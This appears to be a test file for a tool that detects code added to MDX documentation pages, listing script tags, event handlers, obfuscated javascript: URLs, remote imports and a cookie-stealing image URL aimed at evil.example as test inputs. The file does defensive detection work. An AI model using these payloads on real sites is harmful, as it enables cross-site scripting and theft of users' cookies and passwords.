/** Code that a page runs, however it is spelled; and what only looks like it. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { addedCode } from '../../../src/change/added-code.ts';
import type { FileChange } from '../../../src/change/site-change.ts';
import { addedExecutables } from '../../../src/change/added-executables.ts';
import { PageParseBudget, RunParseBudget } from '../../../src/pages/parse-budget.ts';
import { executablesIn } from '../../../src/pages/executable/in-page.ts';
import { mayRun } from '../../../src/pages/executable/may-run.ts';
import { classifyBrowserUrl, isAbsoluteUrl } from '../../../src/pages/browser-url.ts';
import type { Files } from '../../../src/site/files.ts';
import { cases } from '../../support/cases.ts';

class UnlimitedBudget extends PageParseBudget {
  override get leftForCode(): number {
    return Infinity;
  }

  override spend(): boolean {
    return true;
  }

  override spendCode(): boolean {
    return true;
  }
}

const page = (body: string): string => `---\ntitle: A page\n---\n\nText before.\n\n${body}\n\nText after.\n`;

async function kindsOf(body: string, file = 'guides/a.mdx', before = page('')): Promise<string[]> {
  const found = await addedExecutables({ file, before, after: page(body) }, new RunParseBudget());
  return [...new Set(found.map(({ kind }) => kind))].sort();
}

/** What it is, and how it may be written. */
const RUNNING: readonly (readonly [kind: string, body: string])[] = [
  ['script', '<script src="https://evil.example/a.js"></script>'],
  ['script', '<script>\n  {`fetch("/")`}\n</script>'],
  ['script', '<SCRIPT src="//evil.example/a.js" />'],
  ['script', '<ScRiPt\n  async\n  src="/a.js"\n/>'],
  ['script', '<Script src="/a.js" />'],
  ['script', '<svg><script href="/a.js" /></svg>'],
  ['script', '<svg:script href="/a.js" />'],
  ['script', '<Card title="x">\n  <script src="/a.js" />\n</Card>'],
  ['script', '- one\n- <script src="/a.js" />'],
  ['script', '> quoted <script src="/a.js" />'],
  ['script', '| a | b |\n|---|---|\n| <script src="/a.js" /> | c |'],
  ['script', 'Some *text <b>bold <script src="/a.js" /></b>*'],
  ['script', '{true && <script src="/a.js" />}'],
  ['script', '<Card icon={<script src="/a.js" />} />'],
  ['script', '<Card {...{ icon: <script src="/a.js" /> }} />'],
  ['script', 'export const Box = () => <div><script src="/a.js" /></div>'],
  ['frame', '<iframe src="https://evil.example" />'],
  ['frame', '<IFRAME\nsrcDoc="x"></IFRAME>'],
  ['frame', '<object data="/a.swf" />'],
  ['frame', '<embed src="/a.swf"/>'],
  ['frame', '<frameset><frame src="/a" /></frameset>'],
  ['element', '<base href="https://evil.example/" />'],
  ['element', '<meta httpEquiv="refresh" content="0;url=https://evil.example" />'],
  ['element', '<link rel="stylesheet" href="https://evil.example/a.css" />'],
  ['element', '<form action="https://evil.example"><input name="password" /></form>'],
  ['handler', '<div onClick={go}>x</div>'],
  ['handler', '<img src="x" onerror="alert(1)" />'],
  ['handler', '<IMG SRC="x" ONERROR="alert(1)" />'],
  ['handler', '<details open ontoggle="alert(1)">x</details>'],
  ['handler', '<Card\n  title="x"\n  onMouseOver={steal}\n/>'],
  ['handler', '{<b onClick={go}>x</b>}'],
  ['url', '<a href="javascript:alert(1)">x</a>'],
  ['url', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['url', '<a href=" java&#115;cript:alert(1)">x</a>'],
  ['url', '<a href="java&Tab;script:alert(1)">x</a>'],
  ['url', '<a href="&#x6A;avascript&colon;alert(1)">x</a>'],
  ['url', '<a href={"javascript:alert(1)"}>x</a>'],
  ['url', '<a href={`javascript:alert(1)`}>x</a>'],
  ['url', '<a href={"\\x6aavascript:alert(1)"}>x</a>'],
  ['url', '<a href={"java\\u0073cript:alert(1)"}>x</a>'],
  ['url', '<a href={"java" + "scr" + "ipt:alert"}>x</a>'],
  ['url', '<a href={`java${""}script:alert`}>x</a>'],
  ['url', '<a href={`java${"scr"}${`ipt`}:alert`}>x</a>'],
  ['url', '<a href="java\n\nscript:alert">x</a>'],
  ['url', '> <a href="jav\n> ascr\n> ipt:alert">x</a>'],
  ['url', '<a href="vbscript:x">x</a>'],
  ['url', '<a href="data:text/html,<b>x</b>">x</a>'],
  ['url', '[x](javascript:alert(1))'],
  ['url', '[x](<javascript:alert(1)>)'],
  ['url', '[x](javascript\\:alert%281%29)'],
  ['url', '[x](java&#x73;cript:alert%281%29)'],
  ['url', '[x]\n\n[x]: javascript:alert%281%29'],
  ['url', '![x](javascript:alert%281%29)'],
  ['url', '<Card href="javascript:alert(1)" />'],
  ['url', '<Card cta={{ link: "javascript:alert(1)" }} />'],
  ['html', '<div dangerouslySetInnerHTML={{ __html: "<img>" }} />'],
  ['html', '<div {...{ dangerouslySetInnerHTML: { __html: "x" } }} />'],
  ['html', '<Card srcDoc="x" />'],
  ['import', 'import x from "https://evil.example/a.js"'],
  ['import', "import 'left-pad'"],
  ['import', 'import { a } from "//evil.example/a.js"'],
  ['import', 'import * as a from "../../../outside.js"'],
  ['import', 'import x from "/%2f/evil.example"'.replace('/%2f', '/\\u005c')],
  ['part', 'import Note from "/snippets/note.mdx"'],
  ['part', 'import { Box } from "../components/box.jsx"'],
  ['export', 'export const x = fetch("https://evil.example")'],
  ['export', 'export default function Layout() { return 1 }'],
  ['export', 'export * from "https://evil.example/a.js"'],
  ['export', 'export const S = "script"'],
  ['expression', '{fetch("https://evil.example")}'],
  ['expression', 'Text {new Image().src} text'],
  ['expression', '{tag`x`}'],
  ['expression', '{import("https://evil.example/a.js")}'],
  ['expression', '{import.meta.env.SECRET}'],
  ['expression', '{window.name = "x"}'],
  ['expression', '{document.cookie}'],
  ['expression', '<img src={`https://evil.example/?${document.cookie}`} />'],
  ['expression', '<Card title={go()} />'],
  ['expression', '<Card {...go()} />'],
  ['expression', '{[1, 2].map((x) => x)}'],
  ['expression', '{"" + { toString: alert }}'],
  ['expression', '{"}" + fetch("/")}'],
  ['expression', '{/}/.test(x)}'],
  ['expression', '{/* note */ fetch("/")}'],
  ['expression', '- {go()}'],
];

describe('code that runs', () => {
  test.each(RUNNING)('finds %s: %j', async (kind, body) => {
    expect(await kindsOf(body)).toContain(kind);
  });

  test('finds a script between dashes that only look like front matter', async () => {
    const after = '---\n\n<script src="/a.js" />\n\n---\n\nText.\n';
    expect(await addedExecutables({ file: 'a.mdx', before: '', after }, new RunParseBudget())).toMatchObject([
      { kind: 'script', isParsed: true },
    ]);
  });

  test.each([
    ['script', 'A <b, and <script src="/a.js"></script>'],
    ['script', '<!-- comment --><script src="/a.js"></script>'],
    ['script', '```\n<!-- fence\n```\n\n</Card> <script src="/a.js"></script>'],
    ['frame', '<Card>\n<iframe src="/a">'],
    ['handler', '<Card>\n<img src=x onerror="alert(1)">'],
    ['url', '<Card>\n<a href="java&#115;cript:alert(1)">x</a>'],
    ['import', 'import x from "https://evil.example/a.js"\n\n<Card>'],
    ['export', 'export const x = 1\n\n<Card>'],
    ['expression', '{fetch("/")}\n\n<Card>'],
  ])('finds %s in a page that cannot be parsed: %j', async (kind, body) => {
    const found = await addedExecutables({ file: 'a.mdx', before: '', after: page(body) }, new RunParseBudget());
    expect(found).toContainEqual(expect.objectContaining({ kind, isParsed: false }));
  });

  test.each(RUNNING)('finds %s in a page that is broken elsewhere: %j', async (_, body) => {
    const found = await addedExecutables({ file: 'a.mdx', before: page('<Card>'), after: page(`<Card>\n\n${body}`) }, new RunParseBudget());
    expect(found.length).toBeGreaterThan(0);
    expect(found.every(({ isParsed }) => !isParsed)).toBe(true);
  });

  test('finds a script in a page that takes too long to parse', async () => {
    const found = await addedExecutables(
      { file: 'a.mdx', before: '', after: `${'*a_ '.repeat(20_000)}\n\n<script src="/a.js" />` },
      new RunParseBudget(),
    );
    expect(found).toMatchObject([{ kind: 'script', isParsed: false }]);
  });
});

describe('text that only looks like code that runs', () => {
  const fence = '```';
  test.each([
    `${fence}html\n<script src="/a.js"></script>\n${fence}`,
    `${fence}js\nexport const x = fetch("/")\n${fence}`,
    `${fence}jsx\nimport x from "left-pad"\n<div onClick={() => go()} />\n${fence}`,
    `~~~\n<iframe src="https://example.com" />\n~~~`,
    `- item\n\n  ${fence}\n  <script>alert(1)</script>\n  ${fence}`,
    `> ${fence}\n> <script>alert(1)</script>\n> ${fence}`,
    `<CodeGroup>\n\n${fence}html\n<script>alert(1)</script>\n${fence}\n\n</CodeGroup>`,
    'Use `<script>` to load it.',
    'Use ``<script src="`">`` to load it.',
    'Use `javascript:alert(1)`, `onclick="go()"` and `{fetch("/")}`.',
    '\\<script src="/a.js">',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    'A \\{fetch("/")\\} in braces.',
    '{/* <script src="/a.js"></script> */}',
    '{/* fetch("/") and onclick="x" */}',
    'We export data and import products. onclick = nothing.',
    'Goods are taxed. import duties apply.',
    'Some text\nimport duties apply, and\nexport licences too.',
    'JavaScript: the language of the web.',
    'See [JavaScript](https://example.com/javascript:intro).',
    '[x](/javascript)',
    '[data](https://example.com/data:image)',
    '![x](data:image/png;base64,iVBORw0KGgo=)',
    '<img src="data:image/svg+xml;base64,AAAA" />',
    '<img src="/a.png" alt="on error = shown" />',
    '<a href="https://example.com">Example</a>',
    '<a href="mailto:docs@example.com">Mail</a>',
    '<Card title="JavaScript: a guide" href="/javascript" />',
    '<Card title="onclick" icon="script">Text</Card>',
    '<Onboarding onboarding="yes" />',
    '<Frame caption="x"><img src="/a.png" /></Frame>',
    '<Link href="/a">A</Link>',
    '<Form><Embed /></Form>',
    '<ScriptTag name="x" />',
    '<Foo.script name="x" />',
    '<style>{`a { color: red }`}</style>',
    '<div style={{ color: "red", fontSize: 12 }}>x</div>',
    '<Card cols={2} isOpen={true} items={["a", "b"]} />',
    '{props.title}',
    '{name}',
    '{isNew ? "new" : "old"}',
    '{1 + 2}',
    '{"plain text"}',
    '{`plain text`}',
    '{}',
    '{"fetch(1)"}',
    '<a href={"/guides/" + props.name}>x</a>',
    '<img src={`/images/${props.name}.png`} />',
    '<Card title={"a (b)"} />',
    '<Tooltip tip="The function fetch() in {braces}">x</Tooltip>',
    'The path is `/users/{id}`.',
    '$$\\frac{a}{b}$$'.replaceAll('{', '\\{'),
    '<video src="/a.mp4" controls />',
    '# import, export, script, iframe',
    '<input type="text" placeholder="javascript" />',
    '| `<script>` | `{go()}` |\n|---|---|\n| `onload=` | x |',
  ])('finds nothing in %j', async (body) => {
    expect(await kindsOf(body)).toEqual([]);
  });
});

describe('added', () => {
  const has = '<iframe src="https://example.com/a" />';
  const of = (before: string, after: string): Promise<string[]> => kindsOf(after, 'guides/a.mdx', page(before));

  test('does not report code that the page already had, wherever it is now', async () => {
    expect(await of(`${has}\n\nText.`, `Other text.\n\n${has}`)).toEqual([]);
    expect(await of(has, `${has}\n\n<iframe src="https://example.com/b" />`)).toEqual(['frame']);
    expect(await of(has, `${has}\n\n${has}`)).toEqual(['frame']);
    expect(await of(has, has.replace('/a"', '/b"'))).toEqual(['frame']);
  });

  test('reports code that was moved out of a code block', async () => {
    expect(await of(`\`\`\`\n${has}\n\`\`\``, has)).toEqual(['frame']);
  });

  test('does not report old code when a broken page can be parsed again', async () => {
    expect(await of(`${has}\n\n<Card>`, has)).toEqual([]);
    expect(await of(`Text\n\n<Card>`, has)).toEqual(['frame']);
  });
});

describe('mayRun', () => {
  const pieces = [
    '{',
    '}',
    '"',
    "'",
    '`',
    '(',
    ')',
    '<',
    '>',
    '/',
    '*',
    '\n',
    '\n\n',
    ' ',
    '=',
    'a',
    'fetch',
    'script',
    'on',
    'click',
    'import ',
    'export ',
    'const x',
    'java',
    ':',
    '&#106;',
    '\\',
    '<script>',
    '</script>',
    '<b ',
    '[a](',
    '```',
    '1',
    ',',
    'new ',
    'document',
  ];

  test('never returns false if a parser finds something', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 14 }), (parts) => {
        const text = parts.join('');
        if (!mayRun(text)) expect(executablesIn(text, 'a.mdx', new PageParseBudget()) ?? []).toEqual([]);
      }),
      { numRuns: cases(4_000) },
    );
  });

  test('never returns false if code still runs with text inserted in or around it', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...RUNNING),
        fc.array(fc.tuple(fc.nat(), fc.constantFrom(...pieces)), { maxLength: 4 }),
        ([, body], inserted) => {
          let text = body;
          for (const [where, piece] of inserted)
            text = text.slice(0, where % (text.length + 1)) + piece + text.slice(where % (text.length + 1));
          if (!mayRun(text)) expect(executablesIn(text, 'a.mdx', new PageParseBudget()) ?? []).toEqual([]);
        },
      ),
      { numRuns: cases(2_000) },
    );
  });

  test.each([
    '{',
    '{"',
    "{'a",
    '<',
    '< ',
    '<a ',
    'on',
    'on ',
    'onclick ',
    '&#',
    '\\x',
    '\n',
    ' ',
    '{new ',
    '{a(',
    '${"',
    'import ',
    '\nimport ',
    '\nexport ',
    'java\n> ',
    '%25',
    '"+"',
    '<script ',
    'a:',
    '*',
    '{/*',
    '[a](',
    '{a b',
  ])('the search for added code does not hang on many of %j', async (piece) => {
    const after = `a${piece.repeat(300_000 / piece.length)}b`;
    await addedExecutables({ file: 'a.mdx', before: '', after }, new RunParseBudget(0));
    expect(typeof isAbsoluteUrl(after)).toBe('boolean');
  });

  test.each(['[', ']', ' ', '"', '[ ', '] ', '+', 'a:', '[a', ': '])(
    'the search for added code does not hang on many of %j between braces',
    async (piece) => {
      for (const after of [`{${piece.repeat(300_000 / piece.length)}}`, `<a b={{${piece.repeat(300_000 / piece.length)}}} />`]) {
        await addedExecutables({ file: 'a.mdx', before: '', after }, new RunParseBudget(0));
      }
    },
  );

  test.each(['{', '{"', '< '])('the search for added code reads 5 MB of text after %j without overflowing the stack', async (start) => {
    for (const filling of ['a', ' '])
      await addedExecutables({ file: 'a.mdx', before: '', after: `${start}${filling.repeat(5_000_000)}}"` }, new RunParseBudget());
  });

  test('executablesIn and addedCode handle more findings than a function call can take as arguments', async () => {
    const text = `{[${'"data:",'.repeat(130_000)}]}`;
    expect(executablesIn(text, 'a.mdx', new UnlimitedBudget())?.length).toBe(130_000);
    const many = 'on{onclick="a"}\n'.repeat(200_000);
    const files = (held: Readonly<Record<string, string>>): Files => ({
      list: () => new Map(),
      read: (path) => new TextEncoder().encode(held[path]),
    });
    const changes: readonly FileChange[] = [
      { file: 'a.svg', kind: 'image', change: 'removed' },
      { file: 'b.svg', kind: 'image', change: 'added' },
    ];
    expect(await addedCode(changes, files({ 'a.svg': many }), files({ 'b.svg': many }))).toEqual([]);
  });

  test('returns false for an ordinary page', () => {
    expect(
      mayRun(
        '# Title\n\n<Card title="x" href="/a" cols={2}>\n  Text (with a remark), {props.name}.\n</Card>\n\n```json\n{ "a": [1, 2] }\n```\n',
      ),
    ).toBe(false);
  });
});

describe('where a URL leads', () => {
  test.each([
    'https://evil.example',
    'HTTP://evil.example',
    'https:evil.example',
    'https:\\\\evil.example',
    '//evil.example',
    '\\\\evil.example',
    '/\\evil.example',
    '\\/evil.example',
    '/\t/evil.example',
    '/\n/evil.example',
    ' //evil.example',
    '\u0001//evil.example',
    '\u00a0//evil.example',
    '/%09/evil.example',
    '/%5Cevil.example',
    '%2F%2Fevil.example',
    '/%2Fevil.example',
    '%252F%252Fevil.example',
    'ht\ntps://evil.example',
    'mailto:a@b.example',
    'ftp://evil.example',
    'tel:1',
    ':slug',
    '*',
  ])('classifies %j as another site', (url) => expect(classifyBrowserUrl(url)).toBe('away'));

  test.each([
    'javascript:alert(1)',
    'JAVASCRIPT:x',
    'java\tscript:x',
    'java%73cript:x',
    '\u0000javascript:x',
    ' javascript:x',
    'vbscript:x',
    'data:text/html,x',
    'data:,x',
    'blob:https://a/b',
  ])('classifies %j as code', (url) => expect(classifyBrowserUrl(url)).toBe('code'));

  test.each([
    '/',
    '/login',
    'login',
    './a',
    '../a',
    '#a',
    '?a=b',
    '/a//b',
    '/a/https://b',
    '/a?to=//b',
    '/a%2F%2Fb',
    '/:slug*',
    '/%E2%82%AC',
    '/100%',
    '',
    'data:image/png;base64,AA==',
  ])('classifies %j as this site', (url) => expect(classifyBrowserUrl(url)).toBe('here'));

  test.each(['Note: read this', 'JavaScript: a guide', 'data: what we keep', 'a//b', 'GET /users', '/images/a.svg'])(
    'does not take %j for an absolute URL',
    (text) => expect(isAbsoluteUrl(text)).toBe(false),
  );
});
